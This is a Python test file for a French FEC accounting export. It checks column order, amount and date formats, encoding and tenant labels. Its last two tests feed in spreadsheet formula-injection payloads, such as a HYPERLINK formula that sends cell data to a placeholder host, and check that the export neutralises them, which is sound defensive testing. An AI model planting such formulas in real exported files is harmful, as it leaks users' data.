"""The FEC export (article A47 A-1 LPF): columns, separators, dates, amounts, balance."""

from __future__ import annotations

from datetime import UTC, date, datetime

import pytest

from functions.core.accounting import AccountingEntry, EntryLine, SourceType
from functions.core.errors import ValidationError
from functions.core.fec import (
    FEC_COLUMNS,
    entries_as_fec,
    fec_amount,
    fec_bytes,
    fec_file_name,
    fec_rows,
    subledger_ids,
    tenant_labels,
)
from tests.unit.matching.helpers import lease

CREATED = datetime(2026, 1, 31, 23, 30, tzinfo=UTC)  # 1 February in Paris


def _entry(
    amount: int = 41230, label: str = "Virement Zoé LEFÈVRE", lease_id: str = "B-001"
) -> AccountingEntry:
    return AccountingEntry(
        org_id="org",
        entry_id="20260131T233000000000Z-abc",
        date=date(2026, 1, 30),
        journal="BQ",
        label=label,
        source_type=SourceType.ALLOCATION,
        source_id=f"tx_1:{lease_id}",
        transaction_id="tx_1",
        lease_id=lease_id,
        lines=(
            EntryLine("512000", amount, 0, None, label),
            EntryLine("411000", 0, amount, lease_id, label),
        ),
        created_at=CREATED,
    )


def test_the_18_legal_columns_in_order() -> None:
    header = entries_as_fec([]).split("\r\n")[0]
    assert header == (
        "JournalCode|JournalLib|EcritureNum|EcritureDate|CompteNum|CompteLib|CompAuxNum|"
        "CompAuxLib|PieceRef|PieceDate|EcritureLib|Debit|Credit|EcritureLet|DateLet|"
        "ValidDate|Montantdevise|Idevise"
    )
    assert len(FEC_COLUMNS) == 18


def test_one_line_per_entry_line_with_french_formats() -> None:
    text = entries_as_fec([_entry()], {"B-001": "LEFÈVRE Zoé"})
    lines = text.split("\r\n")
    assert lines[-1] == "" and len(lines) == 4
    bank = dict(zip(FEC_COLUMNS, lines[1].split("|"), strict=True))
    tenant = dict(zip(FEC_COLUMNS, lines[2].split("|"), strict=True))
    assert bank["EcritureDate"] == bank["PieceDate"] == "20260130"
    assert bank["ValidDate"] == "20260201"  # the creation day in Paris
    assert (bank["CompteNum"], bank["Debit"], bank["Credit"]) == ("512000", "412,30", "0,00")
    assert (tenant["CompteNum"], tenant["Debit"], tenant["Credit"]) == ("411000", "0,00", "412,30")
    assert (tenant["CompAuxNum"], tenant["CompAuxLib"]) == ("B-001", "LEFÈVRE Zoé")
    assert bank["CompAuxNum"] == bank["CompAuxLib"] == ""
    assert bank["EcritureNum"] == tenant["EcritureNum"] == "20260131T233000000000Z-abc"
    assert bank["JournalCode"] == "BQ" and bank["JournalLib"] == "Banque"
    assert bank["Idevise"] == bank["Montantdevise"] == ""


def test_each_entry_balances() -> None:
    rows = fec_rows([_entry(1), _entry(123456789)])
    debit = sum(int(r[11].replace(",", "")) for r in rows)
    credit = sum(int(r[12].replace(",", "")) for r in rows)
    assert debit == credit == 1 + 123456789
    assert rows[2][11] == "1234567,89"  # no thousands separator


def test_separators_and_line_breaks_never_leak_into_fields() -> None:
    rows = fec_rows([_entry(label="Loyer | janvier\r\nsolde")])
    assert all(len(r) == 18 for r in rows)
    assert rows[0][10] == "Loyer / janvier solde"


@pytest.mark.parametrize(("cents", "text"), [(0, "0,00"), (5, "0,05"), (100, "1,00")])
def test_amounts(cents: int, text: str) -> None:
    assert fec_amount(cents) == text


def test_negative_amounts_are_refused() -> None:
    with pytest.raises(ValidationError):
        fec_amount(-1)


def test_file_name_and_encoding() -> None:
    assert fec_file_name("123456789", date(2026, 12, 31)) == "123456789FEC20261231.txt"
    assert fec_file_name(None, date(2026, 1, 1)) == "000000000FEC20260101.txt"
    assert fec_bytes("Zoé LEFÈVRE €") == "Zoé LEFÈVRE €".encode("iso-8859-15")
    assert fec_bytes("Ṡ") == b"?"


def test_tenant_sub_ledgers_are_named_after_their_tenants() -> None:
    entries = [_entry(lease_id="L-2"), _entry(lease_id="L-1"), _entry(lease_id="L-2")]
    assert subledger_ids(entries) == ["L-2", "L-1"]
    labels = tenant_labels({"L-2": lease(2, "Awa DIALLO", "Jean MARTIN")})
    rows = fec_rows(entries, labels)
    assert {(r[6], r[7]) for r in rows if r[6]} == {
        ("L-2", "Awa DIALLO et Jean MARTIN"),
        ("L-1", "L-1"),
    }


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x.example/?"&A1,"Payer")', "+33 1 23", "-2+3", "@SUM(A1)"]
)
def test_formula_like_names_are_neutralised_and_the_fec_stays_legal(name: str) -> None:
    text = entries_as_fec([_entry(label=f"{name} loyer")], {"B-001": name})
    lines = text.split("\r\n")
    assert len(lines) == 4
    for row in lines[1:3]:
        fields = row.split("|")
        assert len(fields) == 18
        assert not any(f.startswith(("=", "+", "-", "@")) for f in fields)
        assert fields[10].endswith("loyer")
    assert lines[2].split("|")[7].lstrip("=+-@ ")  # the tenant label keeps its text


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe() -> None:
    import csv
    import io

    from functions.core.accounting import csv_safe, entries_as_csv

    assert csv_safe("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert csv_safe("\tx") == "'\tx" and csv_safe("@x") == "'@x" and csv_safe("Zoé") == "Zoé"
    evil = '=HYPERLINK("http://x.example","clic")'
    rows = list(csv.reader(io.StringIO(entries_as_csv([_entry(label=evil)])), delimiter=";"))
    assert len(rows) == 3
    for row in rows[1:]:
        assert row[5] == "'" + evil
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
        assert row[6][0].isdigit() and row[7][0].isdigit()  # amounts stay numbers
